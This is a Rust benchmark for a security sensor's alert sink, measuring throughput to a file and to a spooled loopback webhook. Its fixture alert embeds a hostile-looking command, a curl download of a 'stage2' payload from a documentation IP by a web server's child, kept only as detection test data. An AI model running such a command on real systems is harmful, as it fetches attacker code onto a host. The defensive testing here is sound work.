//! How many alerts a second a sink takes on one core: run with `taskset -c 0 cargo bench -p sensor --bench sink`.
//!
//! Alerts as they come out of a rule go through queue, encoding, numbering and chain into a file, and through the spool on disk
//! to a webhook on loopback whose server only counts. The server's time is in it, too.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a bench that cannot go on ends")]

use std::{
    io::{Read, Write},
    net::TcpListener,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

use sensor::{
    config::SinkConfig,
    event::{Args, Process, Text},
    sink::{Alert, Item, Shared, open},
};
use serde_json::json;

const ALERTS: usize = 200_000;

fn alert(number: usize) -> Alert {
    let args = ["curl", "-sS", "-o", "/tmp/x", "http://198.51.100.7/stage2", "--header", "X-Number: 4711"];
    let process = Process {
        comm: [b'c'; 16].as_slice().into(),
        exe: Text::new(*b"/usr/bin/curl"),
        args: Args::from_list(args),
        cwd: Text::new(*b"/var/www/html"),
        ..Process::default()
    };
    let output = format!(
        "Outbound connection by a web server's child | connection=10.0.0.7:41234->198.51.100.7:80 command={} executable=/usr/bin/curl parent=sh parent_command=sh -c curl user=www-data uid=33 pid={number} container=web image=registry.example/shop/web:1.2.3",
        args.join(" ")
    );
    let fields = [
        "fd.name",
        "proc.cmdline",
        "proc.exepath",
        "proc.pname",
        "proc.pcmdline",
        "user.name",
        "user.uid",
        "proc.pid",
        "container.name",
        "container.image",
    ];
    let mut alert = Alert {
        rule: "Outbound connection by a web server's child".to_owned(),
        priority: "Warning",
        output,
        output_fields: fields
            .iter()
            .map(|field| ((*field).to_owned(), "10.0.0.7:41234->198.51.100.7:80".into()))
            .collect(),
        tags: ["network", "mitre_command_and_control", "T1071"].map(str::to_owned).to_vec(),
        ..Alert::without_event(1_700_000_000_000_000_000 + number as u64, &"node-17".into())
    };
    alert.process.process = Arc::new(process);
    alert
}

/// Answers every request with 200 and counts its bodies' bytes.
fn server() -> (String, Arc<AtomicU64>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let bytes = Arc::new(AtomicU64::new(0));
    let count = Arc::clone(&bytes);
    thread::spawn(move || {
        for stream in listener.incoming() {
            let (mut stream, count) = (stream.unwrap(), Arc::clone(&count));
            thread::spawn(move || {
                let mut buffer = vec![0; 1 << 20];
                let mut have = 0;
                loop {
                    let end = buffer[..have].windows(4).position(|end| end == b"\r\n\r\n");
                    if let Some(end) = end {
                        let head = String::from_utf8_lossy(&buffer[..end]).to_lowercase();
                        let length = head
                            .lines()
                            .find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
                        let length = length.unwrap();
                        let mut left = (end + 4 + length).saturating_sub(have);
                        while left > 0 {
                            let at = left.min(buffer.len());
                            let read = stream.read(&mut buffer[..at]).unwrap();
                            left -= read;
                        }
                        have = 0;
                        count.fetch_add(length as u64, Ordering::Relaxed);
                        stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n").unwrap();
                        continue;
                    }
                    match stream.read(&mut buffer[have..]) {
                        Ok(read) if read > 0 => have += read,
                        _ => return,
                    }
                }
            });
        }
    });
    (format!("http://{address}/"), bytes)
}

fn run(name: &str, config: serde_json::Value) {
    let config: SinkConfig = serde_json::from_value(config).unwrap();
    let shared = Shared { hostname: "node-17".into(), key: None };
    let mut output = open(name, &config, &shared).unwrap();
    let items: Vec<Item> = (0..ALERTS).map(|number| Item::Alert(Arc::new(alert(number)))).collect();
    let start = Instant::now();
    for item in items {
        output.queue.put(item).unwrap();
    }
    let mut stats = sensor::sink::SinkStats::default();
    while stats.delivered < ALERTS as u64 {
        thread::sleep(Duration::from_millis(2));
        output.account.fill(&mut stats);
    }
    let seconds = start.elapsed().as_secs_f64();
    println!(
        "{name:<12} {ALERTS} alerts in {seconds:.2} s: {:.0} a second, {} waiting, failures {:?}",
        ALERTS as f64 / seconds,
        stats.waiting,
        stats.failures
    );
}

fn main() {
    // `cargo test` runs benches, too, for whether they start.
    if !std::env::args().any(|arg| arg == "--bench") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    println!("an alert has {} bytes", serde_json::to_vec(&alert(1)).unwrap().len());
    run("file", json!({ "to": { "file": { "path": dir.path().join("alerts.json") } } }));
    let (url, bytes) = server();
    let spool = json!({ "directory": dir.path().join("spool") });
    run("webhook", json!({ "to": { "webhook": { "url": url } }, "spool": spool }));
    println!("the webhook took {} MB", bytes.load(Ordering::Relaxed) >> 20);
}
